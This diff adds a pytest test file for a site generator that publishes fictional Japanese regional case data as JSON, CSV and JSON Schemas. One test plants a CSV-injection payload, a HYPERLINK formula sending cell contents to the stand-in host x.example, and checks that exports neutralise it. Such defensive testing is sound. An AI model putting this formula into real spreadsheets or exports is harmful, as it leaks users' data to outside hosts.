@@ -1,0 +1,280 @@
+"""The published data: the static API, the table for spreadsheets, and the JSON Schemas."""
+
+import csv
+import io
+import json
+import re
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from generator.exports import json_schemas, neutralise
+from generator.schema import KINDS, SECTIONS
+from tests.built import CONTENT, built, read_html
+from tests.door import ROOT, TOY, kb, toy_with
+
+COMMITTED = ROOT / "generator" / "data" / "schema"
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return built(TOY, tmp_path_factory.mktemp("exports") / "site")
+
+
+def data(site: Path, name: str) -> Any:
+    return json.loads((site / "api" / "v1" / name).read_text(encoding="utf-8"))
+
+
+@pytest.fixture(scope="module")
+def cases(site: Path) -> dict[str, Any]:
+    return {case["id"]: case for case in data(site, "cases.json")["cases"]}
+
+
+def test_every_case_is_there_north_to_south(cases: dict[str, Any]) -> None:
+    assert list(cases) == ["urakawa", "sado", "shimoda-higashimatsushima"]
+
+
+def test_a_case_says_who_and_where(cases: dict[str, Any], site: Path) -> None:
+    case = cases["urakawa"]
+    assert case["title"] == "浦河町｜うらかわ架空コンソーシアム"
+    assert case["url"] == "cases/urakawa/"
+    assert (site / case["url"] / "index.html").is_file()
+    assert case["round"] == 1
+    assert case["consortium"]["name"] == "うらかわ架空コンソーシアム"
+    assert case["monitor_tour"]["held"] is True
+    area = case["areas"][0]
+    assert (area["prefecture"], area["municipality"], area["code"]) == (
+        "北海道",
+        "浦河町",
+        "016071",
+    )
+    assert len(cases["shimoda-higashimatsushima"]["areas"]) == 2
+
+
+def test_themes_and_challenges_carry_label_and_basis(cases: dict[str, Any]) -> None:
+    case = cases["urakawa"]
+    assert [theme["id"] for theme in case["themes"]] == ["education", "work"]
+    education = case["themes"][0]
+    assert education["label"] == "教育/保育"
+    assert [(basis["kind"], basis["cell"]) for basis in education["basis"]] == [
+        ("matrix", 5),
+        ("chapter", None),
+    ]
+    assert education["basis"][1]["source"] == {
+        "id": "003/theme-education",
+        "label": "試験用の事例集（架空）｜教育/保育の章",
+    }
+    assert [challenge["id"] for challenge in case["challenges"]] == ["cost"]
+    assert case["unlabelled_mark"] is True
+
+
+def test_what_is_unknown_is_null_and_not_left_out(cases: dict[str, Any]) -> None:
+    case = cases["sado"]
+    assert case.keys() == cases["urakawa"].keys()
+    assert case["monitor_tour"] is None
+    assert case["summary"] is None
+    assert [section["id"] for section in case["sections"]] == list(SECTIONS)
+    assert all(section["statements"] is None for section in case["sections"])
+    assert case["themes"] == case["challenges"] == []
+
+
+def test_every_statement_says_where_it_is_from(cases: dict[str, Any]) -> None:
+    found = 0
+    for case in cases.values():
+        for section in case["sections"]:
+            for statement in section["statements"] or ():
+                assert statement["text"]
+                assert re.fullmatch(r"003/[a-z0-9-]+", statement["source"]["id"])
+                assert statement["source"]["label"].startswith("試験用の事例集（架空）｜")
+                found += 1
+    assert found == 10
+
+
+def test_each_case_has_a_file_of_its_own(cases: dict[str, Any], site: Path) -> None:
+    files = {path.stem for path in (site / "api" / "v1" / "cases").iterdir()}
+    assert files == set(cases) | {"urakawa-cho"}
+    for name, case in cases.items():
+        assert data(site, f"cases/{name}.json") == case
+    assert data(site, "cases/urakawa-cho.json") == cases["urakawa"], "a former id"
+
+
+def test_subcommittees_and_themes_are_published(site: Path) -> None:
+    subcommittee = data(site, "subcommittees.json")["subcommittees"][0]
+    assert subcommittee["name"] == "架空の二拠点就学部会"
+    assert subcommittee["cases"] == ["urakawa"]
+    themes = data(site, "themes.json")
+    work = next(theme for theme in themes["themes"] if theme["id"] == "work")
+    assert [(case["id"], case["basis"][0]["kind"]) for case in work["cases"]] == [
+        ("urakawa", "matrix"),
+        ("shimoda-higashimatsushima", "chapter"),
+    ]
+    assert [challenge["id"] for challenge in themes["challenges"]] == ["cost"]
+
+
+def test_every_download_offered_is_there_and_no_page_breaks_without_one(site: Path) -> None:
+    page = read_html((site / "data" / "index.html").read_text(encoding="utf-8"))
+    offered = [link for link in page.links if re.search(r"\.(json|csv|zip|xml|xlsx|bib)$", link)]
+    assert len(offered) >= 5
+    assert [link for link in offered if not (site / "data" / link).resolve().is_file()] == []
+
+
+# The table
+
+
+def raw_table(site: Path) -> bytes:
+    return (site / "api" / "v1" / "cases.csv").read_bytes()
+
+
+def table(raw: bytes) -> list[dict[str, str]]:
+    text = raw.decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
+
+
+def test_the_table_is_one_that_excel_opens(site: Path) -> None:
+    raw = raw_table(site)
+    assert raw.startswith(b"\xef\xbb\xbf")
+    assert raw.endswith(b"\r\n")
+    records = re.sub(rb'"(?:[^"]|"")*"', b"", raw.removeprefix(b"\xef\xbb\xbf"))
+    assert records.replace(b",", b"") == b"\r\n" * 4  # every cell quoted, every record CRLF
+    assert b"\r" not in re.sub(rb"\r\n", b"", raw)
+
+
+def test_the_table_says_what_the_api_says(site: Path, cases: dict[str, Any]) -> None:
+    rows = table(raw_table(site))
+    assert [row["id"] for row in rows] == list(cases)
+    for row in rows:
+        case = cases[row["id"]]
+        assert row["事例"] == case["title"]
+        assert row["コンソーシアム名"] == case["consortium"]["name"]
+        assert row["採択次"] == f"{case['round']}次"
+        codes = [area["code"] for area in case["areas"]]
+        assert row["団体コード"].split("；") == codes
+        for section in case["sections"]:
+            told = [statement["text"] for statement in section["statements"] or ()]
+            assert row[section["label"]] == ("\n".join(told) or "情報未収集")
+
+
+def test_codes_keep_their_zeros_even_where_a_spreadsheet_reads_numbers(site: Path) -> None:
+    row = table(raw_table(site))[0]
+    assert row["団体コード"] == "016071"
+    assert (
+        row["地域と団体コード"] == "北海道浦河町［016071］"
+    )  # no spreadsheet takes it for a number
+
+
+def test_no_cell_that_says_something_is_empty(site: Path) -> None:
+    may_be_empty = {"専門部会", "市区町村"}  # in none; the whole prefecture
+    for row in table(raw_table(site)):
+        empty = {name for name, cell in row.items() if not cell}
+        assert empty <= may_be_empty, row["id"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r"])
+def test_no_cell_starts_a_formula(start: str) -> None:
+    assert neutralise(start + "1+1") == f"'{start}1+1"
+    assert neutralise("1" + start) == "1" + start
+
+
+def test_formulas_of_an_entry_reach_the_table_as_text(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("https://x.example/?"&A1)'
+    text = (TOY / "cases" / "sado.yml").read_text(encoding="utf-8")
+    text = text.replace("place: 佐渡市", "place: ＝1+1佐渡").replace(
+        "name: さど架空協議会", f"name: '{hostile}'"
+    )
+    site = built(toy_with(tmp_path, {"cases/sado.yml": text}) / "content", tmp_path / "site")
+    row = next(row for row in table(raw_table(site)) if row["id"] == "sado")
+    assert row["コンソーシアム名"] == "'" + hostile
+    assert row["事例"] == f"'＝1+1佐渡｜{hostile}"
+    formula = re.compile(r"[=+\-@＝＋－＠\t\r]")
+    for one in table(raw_table(site)):
+        assert [cell for cell in one.values() if formula.match(cell)] == []
+
+
+# The schemas
+
+
+@pytest.fixture(scope="module")
+def schemas(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("schemas")
+    assert kb("schema", "--to", folder).code == 0
+    return folder
+
+
+def test_the_committed_schemas_are_those_of_the_models(schemas: Path) -> None:
+    made = {path.name: path.read_text(encoding="utf-8") for path in schemas.iterdir()}
+    kept = {path.name: path.read_text(encoding="utf-8") for path in COMMITTED.iterdir()}
+    assert made == kept, "run: make schema"
+
+
+def test_the_site_publishes_the_schemas(site: Path) -> None:
+    for kind, text in json_schemas():
+        assert (site / "schema" / f"{kind}.schema.json").read_text(encoding="utf-8") == text
+
+
+def check_jsonschema(*arguments: str | Path) -> subprocess.CompletedProcess[str]:
+    command = [sys.executable, "-m", "check_jsonschema", *map(str, arguments)]
+    return subprocess.run(command, capture_output=True, text=True, check=False)
+
+
+def test_the_schemas_are_valid_and_of_the_version_they_name(schemas: Path) -> None:
+    files = sorted(schemas.iterdir())
+    for file in files:
+        schema = json.loads(file.read_text(encoding="utf-8"))
+        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
+    done = check_jsonschema("--check-metaschema", *files)
+    assert done.returncode == 0, done.stdout
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_the_schemas_accept_every_entry(kind: str, schemas: Path) -> None:
+    files = [file for folder in (CONTENT, TOY) for file in sorted((folder / kind).glob("*.yml"))]
+    if files:
+        done = check_jsonschema("--schemafile", schemas / f"{kind}.schema.json", *files)
+        assert done.returncode == 0, done.stdout
+
+
+@pytest.mark.parametrize(
+    ("right", "wrong"),
+    [
+        ('code: "152242"', 'code: "15224"'),
+        ("summary: null", "summary: 佐渡市の取組"),
+        ("place: 佐渡市", "place: 佐渡市\nplaces: 佐渡市"),
+        ("reading: さどし", "reading: 佐渡市"),
+        ("  funding: null\n", ""),
+    ],
+)
+def test_the_schema_of_cases_refuses_what_is_wrong(
+    right: str, wrong: str, schemas: Path, tmp_path: Path
+) -> None:
+    text = (TOY / "cases" / "sado.yml").read_text(encoding="utf-8")
+    assert right in text
+    (tmp_path / "sado.yml").write_text(text.replace(right, wrong), encoding="utf-8")
+    schema = schemas / "cases.schema.json"
+    assert check_jsonschema("--schemafile", schema, tmp_path / "sado.yml").returncode == 1
+
+
+def descriptions(schema: object) -> Iterator[str]:
+    if isinstance(schema, dict):
+        if isinstance(schema.get("description"), str):
+            yield schema["description"]
+        schema = list(schema.values())
+    if isinstance(schema, list):
+        for part in schema:
+            yield from descriptions(part)
+
+
+def test_editors_show_what_to_write_in_japanese() -> None:
+    schemas = {kind: json.loads(text) for kind, text in json_schemas()}
+    case = schemas["cases"]
+    described = {name for name, field in case["properties"].items() if field.get("description")}
+    assert {"id", "place", "round", "monitor_tour", "summary", "confirmed_on"} <= described
+    sections = case["$defs"]["Sections"]["properties"]
+    for name, label in SECTIONS.items():
+        assert sections[name]["description"].startswith(label)
+    for kind, schema in schemas.items():
+        assert "アドレスになります" in schema["properties"]["id"]["description"], kind
+        assert [text for text in descriptions(schema) if not re.search(r"[ぁ-ん一-龠]", text)] == []
